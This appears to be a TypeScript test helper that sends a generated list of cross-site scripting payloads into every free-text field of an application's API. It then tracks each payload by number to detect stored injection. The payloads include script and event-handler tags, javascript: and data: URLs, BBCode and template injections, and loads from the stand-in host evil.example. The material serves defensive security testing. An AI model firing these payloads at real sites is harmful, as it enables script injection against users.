import { readPermissions } from '../../tools/permission-table.ts'
import type { AnyOperation, NamedOperation } from '../contract/operation.ts'
import type { TestClient } from './app.ts'
import { allows } from './authorization.ts'
import type { Samples } from './samples.ts'
import { inputSchema, smallest } from './smallest-input.ts'
import type { Role, TwoParties } from './two-parties.ts'

const { permissions } = readPermissions()

type Json = Record<string, unknown> & { type?: string; properties?: Record<string, Json>; required?: string[] }
type Some = Record<string, unknown>

/** What a careless page would run, load or follow. Each has its number, by which it is known again. */
const shapes: ((number: number) => string)[] = [
  (n) => `<script>pwned=${n}</script>`,
  (n) => `<img src=x onerror=pwned=${n}>`,
  (n) => `<svg onload=pwned=${n}>`,
  (n) => `<svg/onload=alert(${n})>`,
  (n) => `<body onload=pwned=${n}>`,
  (n) => `<iframe srcdoc="<script>parent.pwned=${n}</script>">`,
  (n) => `<iframe src=javascript:parent.pwned=${n}>`,
  (n) => `<a href=javascript:pwned=${n}>a</a>`,
  (n) => `<details open ontoggle=pwned=${n}>`,
  (n) => `<input autofocus onfocus=pwned=${n}>`,
  (n) => `<video src=x onerror=pwned=${n}>`,
  (n) => `<math><mtext></p><img src=x onerror=pwned=${n}>`,
  (n) => `<object data=//evil.example/${n}>`,
  (n) => `<embed src=//evil.example/${n}>`,
  (n) => `<link rel=stylesheet href=//evil.example/${n}>`,
  (n) => `<style>@import '//evil.example/${n}'</style>`,
  (n) => `<meta http-equiv=refresh content='0;//evil.example/${n}'>`,
  (n) => `<base href=//evil.example/${n}/>`,
  (n) => `<form action=//evil.example/${n}><button>`,
  (n) => `<img src=//evil.example/${n}>`,
  (n) => `<p style=background:url(//evil.example/${n})>`,
  (n) => `[url=javascript:pwned=${n}]a[/url]`,
  (n) => `[url]javascript:pwned=${n}[/url]`,
  (n) => `[url=data:text/html,pwned=${n}]d[/url]`,
  (n) => `[url=https://evil.example/${n}]e[/url]`,
  (n) => `[img]javascript:pwned=${n}[/img]`,
  (n) => `[img]//evil.example/${n}[/img]`,
  (n) => `[img]https://evil.example/${n}.png[/img]`,
  (n) => `[img]x" onerror="pwned=${n}[/img]`,
  (n) => `[color=red;background:url(//evil.example/${n})]c[/color]`,
  (n) => `[color=#fff" onclick="pwned=${n}]c[/color]`,
  (n) => `[quote="x" onclick="pwned=${n}"]q[/quote]`,
  (n) => `[code][/b]pwned=${n}[/code]`,
  (n) => `{{constructor.constructor('pwned=${n}')()}}`,
  (n) => `\${pwned=${n}}`,
  (n) => `javascript:pwned=${n}`,
  (n) => `data:text/html,pwned=${n}`,
  (n) => `https://evil.example/${n}`,
  (n) => `onmouseover=pwned=${n} x=`,
  (n) => `&lt;script&gt;pwned=${n}&lt;/script&gt;`,
]
/** What ends the place in which it might stand. */
const ends = ['', '">', "'>", '</textarea>', '</title>']

export const payloads = ends.flatMap((end, at) =>
  shapes.map((shape, number) => `${end}${shape(at * shapes.length + number)}`),
)
/** Fields that take no HTML get the others. */
const withoutTags = payloads.filter((payload) => !payload.includes('<'))

/** The numbers of the payloads in a text. */
export const numbersIn = (text: string): number[] =>
  [...text.matchAll(/(?:pwned=|alert\(|evil\.example\/)(\d+)/g)].map(([, number]) => Number(number))

/** Free text: no id, day, colour, address or choice. */
function isText({ type, pattern = '', format, enum: choices, const: only }: Json): boolean {
  const isOpen = pattern === '' || String(pattern).startsWith('^[^\\p{Cc}') || String(pattern).startsWith('^[^\\0')
  return type === 'string' && isOpen && !format && !choices && only === undefined
}

const optionsOf = (schema: Json) => ((schema.anyOf ?? schema.oneOf) as Json[] | undefined) ?? []
const inside = (schema: Json): Json[] =>
  [
    ...optionsOf(schema),
    ...Object.values(schema.properties ?? {}),
    schema.items as Json,
    schema.additionalProperties as Json,
  ].filter((one) => typeof one === 'object' && one !== null)
const hasText = (schema: Json): boolean => isText(schema) || inside(schema).some(hasText)

export const takesText = (operation: AnyOperation): boolean =>
  operation.method !== 'get' && hasText(inputSchema(operation))

/** The text fields of an input, such as `metaData.teams.name`. */
function textFields(schema: Json, path = ''): string[] {
  if (isText(schema)) return [path]
  const under = (key: string) => (path === '' ? key : `${path}.${key}`)
  const properties = Object.entries(schema.properties ?? {}).flatMap(([key, one]) => textFields(one, under(key)))
  const others = schema.additionalProperties as Json | undefined
  const more = others && typeof others === 'object' ? textFields(others, under('note')) : []
  const items = schema.items ? textFields(schema.items as Json, path) : []
  return [...new Set([...properties, ...more, ...items, ...optionsOf(schema).flatMap((one) => textFields(one, path))])]
}

/** What goes into which field, by its path. */
type Words = Map<string, (maximum: number) => string>

/** A usual input in which the named fields have other words, those too that may be left out. */
function filled(schema: Json, value: unknown, ids: Record<string, string>, path: string, words: Words): unknown {
  const isMeant = [...words.keys()].some((one) => path === '' || one === path || one.startsWith(`${path}.`))
  if (!isMeant) return value
  if (isText(schema)) return words.get(path)?.(Number(schema.maxLength ?? 200)) ?? value
  const option = optionsOf(schema).find(hasText)
  if (option) return filled(option, value, ids, path, words)
  if (schema.type === 'array') {
    const item = schema.items as Json
    const items = Array.isArray(value) && value.length > 0 ? value : [smallest(item, ids)]
    return items.map((one) => filled(item, one, ids, path, words))
  }
  return schema.type === 'object' ? filledObject(schema, (value ?? {}) as Some, ids, path, words) : value
}

function filledObject(schema: Json, value: Some, ids: Record<string, string>, path: string, words: Words): Some {
  const usual: Some = { ...(smallest(schema, ids) as Some), ...value }
  const under = (key: string) => (path === '' ? key : `${path}.${key}`)
  for (const [key, one] of Object.entries(schema.properties ?? {}))
    if (hasText(one)) usual[key] = filled(one, usual[key], ids, under(key), words)
  const others = schema.additionalProperties as Json | undefined
  if (others && hasText(others)) usual.note = filled(others, undefined, ids, under('note'), words)
  return Object.fromEntries(Object.entries(usual).filter(([, one]) => one !== undefined))
}

export type Stored = { fields: string[]; taken: string[]; faults: string[]; last: Some }

/** Calls an operation until every payload has been in each of its fields that takes it. */
export async function storeAll(parties: TwoParties, operation: NamedOperation, samples: Samples): Promise<Stored> {
  const client = parties.clients[roleFor(operation)]
  const { ids } = parties.own
  const schema = inputSchema(operation)
  const stored: Stored = { fields: textFields(schema), taken: [], faults: [], last: {} }
  const cursors: Cursors = new Map()
  const sendWith = async (sets: [path: string, set: readonly string[]][]) => {
    const usual = samples[operation.id]?.(ids) ?? smallest(schema, ids)
    const words: Words = new Map(sets.map(([path, set]) => [path, (maximum) => next(set, cursors, path, maximum)]))
    const answer = await send(client, operation, filled(schema, usual, ids, '', words) as Some)
    if (answer.status >= 500 || answer.status === 0) stored.faults.push(`${operation.id} ${answer.text}`)
    if (answer.ok) stored.last = answer.value
    return answer.ok
  }
  const sets: [path: string, set: readonly string[]][] = []
  for (const path of stored.fields)
    for (const set of [payloads, withoutTags]) {
      cursors.delete(path)
      if (!(await sendWith([[path, set]]))) continue
      sets.push([path, set])
      break
    }
  stored.taken = sets.map(([path]) => path)
  let refusedInARow = 0
  const isDone = () => sets.every(([path, set]) => (cursors.get(path) ?? 0) >= set.length)
  while (!isDone() && refusedInARow < 5) refusedInARow = (await sendWith(sets)) ? 0 : refusedInARow + 1
  return stored
}

type Cursors = Map<string, number>

/** As many payloads as fit, one after the other through the whole set. */
function next(set: readonly string[], cursors: Cursors, path: string, maximum: number): string {
  let at = cursors.get(path) ?? 0
  let text = (set[at++ % set.length] ?? '').slice(0, maximum)
  while (at < set.length && text.length + 1 + (set[at] ?? '').length <= maximum) text += ` ${set[at++]}`
  cursors.set(path, at)
  return text
}

const preferred: Role[] = ['administrator', 'owner', 'member', 'scorer', 'level50']

function roleFor({ id }: NamedOperation): Role {
  const permission = permissions.find(({ operation }) => operation === id)
  return preferred.find((role) => permission && allows(permission, role)) ?? 'level50'
}

async function send(client: TestClient, operation: AnyOperation, input: Some) {
  const answer = await client.call(operation, input as never)
  return answer.ok
    ? { ok: true as const, status: 200, text: '', value: answer.value as Some }
    : { ok: false as const, status: answer.status, text: `${answer.code} ${answer.detail}`, value: {} }
}
